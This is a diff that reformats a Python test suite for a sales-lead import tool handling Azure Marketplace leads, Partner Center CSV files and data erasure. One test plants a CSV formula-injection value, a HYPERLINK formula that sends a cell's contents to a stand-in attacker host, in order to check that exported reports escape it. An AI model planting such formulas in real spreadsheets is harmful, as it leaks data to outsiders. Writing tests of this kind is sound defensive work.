@@ -29,8 +29,12 @@ NOW = datetime.now(UTC).replace(microsecond=0)
 
 @pytest.fixture
 def store(storage, env):
-    env(LEADS_DELIVERY_QUEUE=f"q{uuid.uuid4().hex[:12]}", EMAIL_TO="sales@contoso.example", WEBHOOK_URL="",
-        LEADS_BACKFILL_DAYS="7")  # fmt: skip
+    env(
+        LEADS_DELIVERY_QUEUE=f"q{uuid.uuid4().hex[:12]}",
+        EMAIL_TO="sales@contoso.example",
+        WEBHOOK_URL="",
+        LEADS_BACKFILL_DAYS="7",
+    )
     return LeadStore.from_settings()
 
 
@@ -43,9 +47,17 @@ def mails() -> list[str]:
 
 
 def http_body(who: dict[str, str], offer: str = "Contoso CRM") -> dict:
-    return {"UserDetails": {"FirstName": who["FirstName"], "LastName": who["LastName"], "Email": who["Email"],
-                            "Company": who["Company"]},
-            "LeadSource": "AzureMarketplace", "ActionCode": "INS", "OfferTitle": offer}  # fmt: skip
+    return {
+        "UserDetails": {
+            "FirstName": who["FirstName"],
+            "LastName": who["LastName"],
+            "Email": who["Email"],
+            "Company": who["Company"],
+        },
+        "LeadSource": "AzureMarketplace",
+        "ActionCode": "INS",
+        "OfferTitle": offer,
+    }
 
 
 def take_in(body: dict) -> str:
@@ -56,8 +68,19 @@ def take_in(body: dict) -> str:
 
 def partner_center_csv(path: Path, rows: list[dict[str, str]], date_header: str = "Created Date") -> Path:
     lines = [f"First Name,Last Name,Email,Company,Offer Name,{date_header}"]
-    lines += [",".join([row["FirstName"], row["LastName"], row["Email"], row["Company"], row.get("Offer", "Contoso CRM"),
-                        row["Created"]]) for row in rows]  # fmt: skip
+    lines += [
+        ",".join(
+            [
+                row["FirstName"],
+                row["LastName"],
+                row["Email"],
+                row["Company"],
+                row.get("Offer", "Contoso CRM"),
+                row["Created"],
+            ]
+        )
+        for row in rows
+    ]
     path.write_text("\n".join(lines) + "\n", encoding="utf-8")
     return path
 
@@ -158,8 +181,12 @@ def test_an_erased_leads_id_and_rows_cannot_be_recomputed_from_the_persons_detai
     body = http_body(who)
     lead_id = take_in(body)
     lead = from_http_body(body)
-    content = json.dumps(lead.model_dump(exclude={"lead_id", "received_at", "channel", "raw"}), sort_keys=True,
-                         ensure_ascii=False, default=str)  # fmt: skip
+    content = json.dumps(
+        lead.model_dump(exclude={"lead_id", "received_at", "channel", "raw"}),
+        sort_keys=True,
+        ensure_ascii=False,
+        default=str,
+    )
     guess = "h" + unkeyed(content)[:24]  # what the version before gave it: SHA-256 of the content
     assert lead_id != guess
     email = who["Email"].casefold()
@@ -187,16 +214,24 @@ OFFER = "Contoso CRM"
 
 def people(prefix: str, count: int) -> list[dict[str, str]]:
     tag = uuid.uuid4().hex[:6]
-    return [{"FirstName": f"{prefix}{index}", "LastName": f"Rt{tag}", "Email": f"{prefix.lower()}{index}.{tag}@fabrikam.example",
-             "Company": f"Fabrikam {tag}"} for index in range(count)]  # fmt: skip
+    return [
+        {
+            "FirstName": f"{prefix}{index}",
+            "LastName": f"Rt{tag}",
+            "Email": f"{prefix.lower()}{index}.{tag}@fabrikam.example",
+            "Company": f"Fabrikam {tag}",
+        }
+        for index in range(count)
+    ]
 
 
 def take_in_by_http(persons: list[dict[str, str]]) -> dict[str, str]:
     from concurrent.futures import ThreadPoolExecutor
 
     with ThreadPoolExecutor(8) as pool:
-        return dict(zip((who["Email"] for who in persons), pool.map(lambda who: take_in(http_body(who)), persons),
-                        strict=True))  # fmt: skip
+        return dict(
+            zip((who["Email"] for who in persons), pool.map(lambda who: take_in(http_body(who)), persons), strict=True)
+        )
 
 
 def take_in_by_table(persons: list[dict[str, str]]) -> dict[str, str]:
@@ -208,25 +243,55 @@ def take_in_by_table(persons: list[dict[str, str]]) -> dict[str, str]:
     table.create_table()
     day, rows = f"{datetime.now(UTC):%Y-%m-%d}", {}
     for start in range(0, len(persons), 100):
-        batch = [{"PartitionKey": day, "RowKey": uuid.uuid4().hex, "LeadSource": "AzureMarketplace", "ActionCode": "INS",
-                  "OfferDisplayName": OFFER, "CustomerInfo": json.dumps(who)} for who in persons[start:start + 100]]  # fmt: skip
+        batch = [
+            {
+                "PartitionKey": day,
+                "RowKey": uuid.uuid4().hex,
+                "LeadSource": "AzureMarketplace",
+                "ActionCode": "INS",
+                "OfferDisplayName": OFFER,
+                "CustomerInfo": json.dumps(who),
+            }
+            for who in persons[start : start + 100]
+        ]
         table.submit_transaction([("create", row) for row in batch])
-        rows.update({json.loads(row["CustomerInfo"])["Email"]: table_lead_id(table.table_name, day, row["RowKey"])
-                     for row in batch})  # fmt: skip
+        rows.update(
+            {
+                json.loads(row["CustomerInfo"])["Email"]: table_lead_id(table.table_name, day, row["RowKey"])
+                for row in batch
+            }
+        )
     _recently_stored.clear()
     assert poll_marketplace().stored == len(persons)
     return rows
 
 
-def write_partner_center(path: Path, persons: list[dict[str, str]], created: dict[str, datetime], *,
-                         encoding: str, delimiter: str, date_header: str, date_format: str) -> None:  # fmt: skip
+def write_partner_center(
+    path: Path,
+    persons: list[dict[str, str]],
+    created: dict[str, datetime],
+    *,
+    encoding: str,
+    delimiter: str,
+    date_header: str,
+    date_format: str,
+) -> None:
     import csv
 
     with path.open("w", newline="", encoding=encoding) as handle:
         writer = csv.writer(handle, delimiter=delimiter)
         writer.writerow(["First Name", "Last Name", "Email", "Company Name", "Offer Name", date_header])
-        writer.writerows([who["FirstName"], who["LastName"], who["Email"], who["Company"], OFFER,
-                          f"{created[who['Email']]:{date_format}}"] for who in persons)  # fmt: skip
+        writer.writerows(
+            [
+                who["FirstName"],
+                who["LastName"],
+                who["Email"],
+                who["Company"],
+                OFFER,
+                f"{created[who['Email']]:{date_format}}",
+            ]
+            for who in persons
+        )
 
 
 def queued() -> int:
@@ -239,7 +304,8 @@ def queued() -> int:
 
 @pytest.mark.timeout(600)  # some two minutes on a loaded 2-core machine: see the sizes above
 def test_a_round_trip_of_partner_center_files_keeps_erased_people_out_sends_nothing_twice_and_merges_no_one(
-        store, env, tmp_path, capsys):  # fmt: skip
+    store, env, tmp_path, capsys
+):
     from leads.cli import main
     from leads.store.identities import CROWDED
 
@@ -250,15 +316,28 @@ def test_a_round_trip_of_partner_center_files_keeps_erased_people_out_sends_noth
     retention_cut = datetime.now(UTC)
     by_http, by_table, lost = people("Http", HTTP_LEADS), people("Tab", TABLE_LEADS), people("Lost", LOST)
     wei = {"FirstName": "Wei", "LastName": f"Zhang{uuid.uuid4().hex[:6]}", "Company": "Microsoft"}
-    wei_stored, wei_lost = {**wei, "Email": f"wei.zhang.{wei['LastName']}@microsoft.com"}, {**wei, "Email": f"wzhang2.{wei['LastName']}@microsoft.com"}
+    wei_stored, wei_lost = (
+        {**wei, "Email": f"wei.zhang.{wei['LastName']}@microsoft.com"},
+        {**wei, "Email": f"wzhang2.{wei['LastName']}@microsoft.com"},
+    )
     stored |= take_in_by_http([*by_http, wei_stored]) | take_in_by_table(by_table)
-    test_lead = take_in({**http_body({"FirstName": "MSFT_TEST_1", "LastName": "MSFT_TEST_1",
-                                      "Email": "MSFT_TEST_1@test.com", "Company": "MSFT_TEST_1"})})  # fmt: skip
+    test_lead = take_in(
+        {
+            **http_body(
+                {
+                    "FirstName": "MSFT_TEST_1",
+                    "LastName": "MSFT_TEST_1",
+                    "Email": "MSFT_TEST_1@test.com",
+                    "Company": "MSFT_TEST_1",
+                }
+            )
+        }
+    )
 
-    forgotten = [*by_http[:FORGOTTEN // 2], *by_table[:FORGOTTEN // 2]]
-    for who in by_http[:FORGOTTEN // 2]:
+    forgotten = [*by_http[: FORGOTTEN // 2], *by_table[: FORGOTTEN // 2]]
+    for who in by_http[: FORGOTTEN // 2]:
         assert erasure.forget_email(who["Email"]).leads == [stored[who["Email"]]]
-    for who in by_table[:FORGOTTEN // 2]:
+    for who in by_table[: FORGOTTEN // 2]:
         assert erasure.forget_lead(stored[who["Email"]]).leads == [stored[who["Email"]]]
     assert len(erasure.apply_retention(now=retention_cut + timedelta(days=1)).leads) == RETAINED
     erased = {who["Email"] for who in [*retained, *forgotten]}
@@ -272,17 +351,41 @@ def test_a_round_trip_of_partner_center_files_keeps_erased_people_out_sends_noth
     shorter = everyone[-SHORTER_RANGE:]
     first, second = tmp_path / "leads-6-months.txt", tmp_path / "leads-this-week.csv"
     # Excel's "Unicode Text": UTF-16 with a BOM, tab-separated; then one whose date header import must be told.
-    write_partner_center(first, everyone, created, encoding="utf-16", delimiter="\t",
-                         date_header="Created Date", date_format="%m/%d/%Y %I:%M:%S %p")  # fmt: skip
-    write_partner_center(second, shorter, created, encoding="utf-8-sig", delimiter=";",
-                         date_header="Lead Created", date_format="%Y-%m-%dT%H:%M:%SZ")  # fmt: skip
+    write_partner_center(
+        first,
+        everyone,
+        created,
+        encoding="utf-16",
+        delimiter="\t",
+        date_header="Created Date",
+        date_format="%m/%d/%Y %I:%M:%S %p",
+    )
+    write_partner_center(
+        second,
+        shorter,
+        created,
+        encoding="utf-8-sig",
+        delimiter=";",
+        date_header="Lead Created",
+        date_format="%Y-%m-%dT%H:%M:%SZ",
+    )
     rows = len(everyone) + len(shorter)
     assert rows > 5000 and len(everyone) <= 5000
     erased_rows = len(erased) + sum(who["Email"] in erased for who in shorter)
 
     before = queued()
-    command = ["--settings", "none", "import", str(first), str(second), "--format", "partner-center",
-               "--column", "createdAt=Lead Created", "--json"]  # fmt: skip
+    command = [
+        "--settings",
+        "none",
+        "import",
+        str(first),
+        str(second),
+        "--format",
+        "partner-center",
+        "--column",
+        "createdAt=Lead Created",
+        "--json",
+    ]
     reports = []
     for _ in range(2):
         assert main(command) == 0
@@ -292,15 +395,30 @@ def test_a_round_trip_of_partner_center_files_keeps_erased_people_out_sends_noth
     assert [part["encoding"] for part in one["files"]] == ["UTF-16 LE with a BOM", "UTF-8 with a BOM"]
     assert [part["delimiter"] for part in one["files"]] == ["\t", ";"]
     assert (one["read"], one["erased"], one["importedAndQueued"], one["importedNotSent"], one["refused"]) == (
-        rows, erased_rows, new, 0, [])
+        rows,
+        erased_rows,
+        new,
+        0,
+        [],
+    )
     assert one["alreadyReceived"] == rows - erased_rows - new
     assert one["files"][1]["importedAndQueued"] == 0  # the second file's leads: all in the first
     assert (two["read"], two["erased"], two["importedAndQueued"], two["alreadyReceived"]) == (
-        rows, erased_rows, 0, rows - erased_rows)
+        rows,
+        erased_rows,
+        0,
+        rows - erased_rows,
+    )
     for report in reports:  # the counts add up, per file and in all
         for part in report["files"]:
-            assert part["alreadyReceived"] + part["erased"] + part["importedAndQueued"] + part["importedNotSent"] + \
-                part["refused"] == part["read"]  # fmt: skip
+            assert (
+                part["alreadyReceived"]
+                + part["erased"]
+                + part["importedAndQueued"]
+                + part["importedNotSent"]
+                + part["refused"]
+                == part["read"]
+            )
         # What the store has that the files do not: the marketplace's test lead.
         assert [(item["leadId"], item["test"]) for item in report["inStoreNotInFiles"]] == [(test_lead, True)]
 
@@ -322,10 +440,23 @@ def test_a_round_trip_of_partner_center_files_keeps_erased_people_out_sends_noth
 
 def test_encodings_and_delimiters_excel_writes_are_told_and_said(store, tmp_path):
     rows = [["First Name", "Last Name", "Email", "Company", "Offer Name", "Created Date"]]
-    rows += [["José", f"Müller{index}", f"jose{index}.{uuid.uuid4().hex[:6]}@fabrikam.example", "Zoë & Co",
-              "Contoso CRM", f"{NOW:%Y-%m-%d %H:%M:%S}"] for index in range(4)]  # fmt: skip
-    cases = {"utf-8-sig": (",", "UTF-8 with a BOM"), "utf-16": ("\t", "UTF-16 LE with a BOM"),
-             "cp1252": (";", "Windows-1252"), "utf-8": (",", "UTF-8")}  # fmt: skip
+    rows += [
+        [
+            "José",
+            f"Müller{index}",
+            f"jose{index}.{uuid.uuid4().hex[:6]}@fabrikam.example",
+            "Zoë & Co",
+            "Contoso CRM",
+            f"{NOW:%Y-%m-%d %H:%M:%S}",
+        ]
+        for index in range(4)
+    ]
+    cases = {
+        "utf-8-sig": (",", "UTF-8 with a BOM"),
+        "utf-16": ("\t", "UTF-16 LE with a BOM"),
+        "cp1252": (";", "Windows-1252"),
+        "utf-8": (",", "UTF-8"),
+    }
     for index, (encoding, (delimiter, said)) in enumerate(cases.items()):
         path = tmp_path / f"leads-{encoding}.csv"
         own = [rows[0]] + [[*cells[:2], f"{index}.{cells[2]}", cells[3] + str(index), *cells[4:]] for cells in rows[1:]]
@@ -343,22 +474,40 @@ def test_a_bad_row_is_refused_with_its_line_and_the_rest_goes_on(store, tmp_path
     head = b"First Name,Last Name,Email,Company,Offer Name,Created Date\r\n"
 
     def row(index: int, comment: str = "") -> bytes:
-        return f'Ann,Lee{index},ann{index}.{tag}@fabrikam.example,"Fabrikam, Ltd",Contoso CRM,{NOW:%Y-%m-%d}\r\n'.encode()
+        return (
+            f'Ann,Lee{index},ann{index}.{tag}@fabrikam.example,"Fabrikam, Ltd",Contoso CRM,{NOW:%Y-%m-%d}\r\n'.encode()
+        )
 
-    body = (head + row(0)  # line 2
-            + b'Bob,Lee1,bob.' + tag.encode() + b'@fabrikam.example,"two\r\nlines",Contoso CRM,' + f"{NOW:%Y-%m-%d}".encode()
-            + b"\r\n"  # lines 3-4: a quoted field holding a line break
-            + b"Caf\xe9,Lee2,cafe." + tag.encode() + b"@fabrikam.example,Fabrikam,Contoso CRM,2026-01-01\r\n"  # line 5
-            + b'Dee,Lee3,dee.' + tag.encode() + b'@fabrikam.example,"' + b"x" * 200_000 + b'",Contoso CRM,2026-01-01\r\n'
-            + row(4) + row(5)  # lines 7 and 8
-            + b'Eve,Lee6,eve.' + tag.encode() + b'@fabrikam.example,"never closed,Contoso CRM\r\n')  # fmt: skip
+    body = (
+        head
+        + row(0)  # line 2
+        + b"Bob,Lee1,bob."
+        + tag.encode()
+        + b'@fabrikam.example,"two\r\nlines",Contoso CRM,'
+        + f"{NOW:%Y-%m-%d}".encode()
+        + b"\r\n"  # lines 3-4: a quoted field holding a line break
+        + b"Caf\xe9,Lee2,cafe."
+        + tag.encode()
+        + b"@fabrikam.example,Fabrikam,Contoso CRM,2026-01-01\r\n"  # line 5
+        + b"Dee,Lee3,dee."
+        + tag.encode()
+        + b'@fabrikam.example,"'
+        + b"x" * 200_000
+        + b'",Contoso CRM,2026-01-01\r\n'
+        + row(4)
+        + row(5)  # lines 7 and 8
+        + b"Eve,Lee6,eve."
+        + tag.encode()
+        + b'@fabrikam.example,"never closed,Contoso CRM\r\n'
+    )
     path = tmp_path / "leads.csv"
     path.write_bytes(body)
     report = import_file(path, encoding="utf-8")  # as told: byte 0xE9 on line 5 is not UTF-8
     assert [(item["row"], item["reason"].split(":")[0].split(" (")[0]) for item in report.refused] == [
         (5, "it holds bytes that are not text in the file's encoding"),
         (6, "a field is longer than the CSV reader's limit"),
-        (9, "a quoted field opened on line 9 is never closed")]  # fmt: skip
+        (9, "a quoted field opened on line 9 is never closed"),
+    ]
     assert (report.read, report.imported) == (7, 4)
     assert sorted(lead.last_name for lead in store.list(limit=None)) == ["Lee0", "Lee1", "Lee4", "Lee5"]
     assert {lead.company for lead in store.list(limit=None)} >= {"Fabrikam, Ltd", "two lines"}
@@ -370,14 +519,21 @@ def test_a_cell_that_looks_like_a_formula_is_kept_as_text_and_escaped_in_the_csv
     tag = uuid.uuid4().hex[:6]
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     path = tmp_path / "leads.csv"
-    path.write_text("First Name,Last Name,Email,Company,Offer Name,Created Date\n"
-                    f'@SUM(1+1),-Lee,ann.{tag}@fabrikam.example,"{formula.replace(chr(34), chr(34) * 2)}",'
-                    f"+Contoso CRM,{NOW:%Y-%m-%d}\n", encoding="utf-8")  # fmt: skip
+    path.write_text(
+        "First Name,Last Name,Email,Company,Offer Name,Created Date\n"
+        f'@SUM(1+1),-Lee,ann.{tag}@fabrikam.example,"{formula.replace(chr(34), chr(34) * 2)}",'
+        f"+Contoso CRM,{NOW:%Y-%m-%d}\n",
+        encoding="utf-8",
+    )
     out = tmp_path / "report.csv"
     assert main(["--settings", "none", "import", str(path), "--csv", str(out)]) == 0
     [lead] = store.list(limit=None)
-    assert (lead.first_name, lead.last_name, lead.company, lead.offer_title) == ("@SUM(1+1)", "-Lee", formula,
-                                                                               "+Contoso CRM")  # fmt: skip
+    assert (lead.first_name, lead.last_name, lead.company, lead.offer_title) == (
+        "@SUM(1+1)",
+        "-Lee",
+        formula,
+        "+Contoso CRM",
+    )
     import csv
 
     [header, row] = list(csv.reader(out.open(encoding="utf-8-sig")))
@@ -398,8 +554,9 @@ def test_the_report_lists_what_the_store_has_for_the_files_offers_and_days_that_
     assert main(["--settings", "none", "import", str(path), "--json"]) == 0
     report = json.loads(capsys.readouterr().out)
     assert report["alreadyReceived"] == 1
-    assert [(item["leadId"], item["channel"], item["offer"], item["erased"]) for item in report["inStoreNotInFiles"]] \
-        == [(extra, "http", "Contoso CRM", False)]  # fmt: skip
+    assert [
+        (item["leadId"], item["channel"], item["offer"], item["erased"]) for item in report["inStoreNotInFiles"]
+    ] == [(extra, "http", "Contoso CRM", False)]
     assert main(["--settings", "none", "import", str(path)]) == 0
     assert f"{extra} received" in capsys.readouterr().out
 
@@ -411,11 +568,14 @@ def test_several_files_in_one_run_report_each_and_all_and_a_lead_in_both_is_take
     created = f"{NOW:%m/%d/%Y %I:%M:%S %p}"
     one = partner_center_csv(tmp_path / "one.csv", [{**first, "Created": created}, {**both, "Created": created}])
     # The same lead in the next download, its date written otherwise (so the row is not the same text).
-    two = partner_center_csv(tmp_path / "two.csv", [{**both, "Created": f"{NOW:%Y-%m-%d %H:%M:%S}"},
-                                                    {**last, "Created": created}])  # fmt: skip
+    two = partner_center_csv(
+        tmp_path / "two.csv", [{**both, "Created": f"{NOW:%Y-%m-%d %H:%M:%S}"}, {**last, "Created": created}]
+    )
     assert main(["--settings", "none", "import", str(one), str(two)]) == 0
     text = capsys.readouterr().out
-    assert "one.csv (partner-center" in text and "two.csv (partner-center" in text and "all 2 files: 4 rows read" in text
+    assert (
+        "one.csv (partner-center" in text and "two.csv (partner-center" in text and "all 2 files: 4 rows read" in text
+    )
     assert sorted(emails_stored(store)) == sorted(who["Email"] for who in (first, both, last))
 
 
@@ -455,8 +615,14 @@ def test_a_marketplace_row_rewritten_after_forget_is_reported_erased_and_kept_ou
     table = table_service(settings.storage_connection).get_table_client(settings.marketplace_table_name)
     table.create_table()
     who = person()
-    row = {"PartitionKey": f"{NOW:%Y-%m-%d}", "RowKey": uuid.uuid4().hex, "LeadSource": "AzureMarketplace",
-           "ActionCode": "INS", "OfferDisplayName": "Contoso CRM", "CustomerInfo": json.dumps(who)}  # fmt: skip
+    row = {
+        "PartitionKey": f"{NOW:%Y-%m-%d}",
+        "RowKey": uuid.uuid4().hex,
+        "LeadSource": "AzureMarketplace",
+        "ActionCode": "INS",
+        "OfferDisplayName": "Contoso CRM",
+        "CustomerInfo": json.dumps(who),
+    }
     table.create_entity(row)
     _recently_stored.clear()
     assert poll_marketplace().stored == 1
@@ -486,12 +652,13 @@ def test_rows_an_earlier_version_wrote_with_plain_digests_are_matched_and_erased
     assert import_file(path).erased == 1
 
 
-
 def test_excels_sep_line_names_the_delimiter(store, tmp_path):
     who = person()
     path = tmp_path / "leads.csv"
-    path.write_text(f"sep=;\nFirst Name;Last Name;Email;Company;Offer Name;Created Date\n"
-                    f"{who['FirstName']};{who['LastName']};{who['Email']};{who['Company']};Contoso CRM;{NOW:%Y-%m-%d}\n")
+    path.write_text(
+        f"sep=;\nFirst Name;Last Name;Email;Company;Offer Name;Created Date\n"
+        f"{who['FirstName']};{who['LastName']};{who['Email']};{who['Company']};Contoso CRM;{NOW:%Y-%m-%d}\n"
+    )
     report = import_file(path)
     assert (report.files[0].delimiter, report.mapping["email"], report.imported) == (";", "Email", 1)
     assert emails_stored(store) == [who["Email"]]
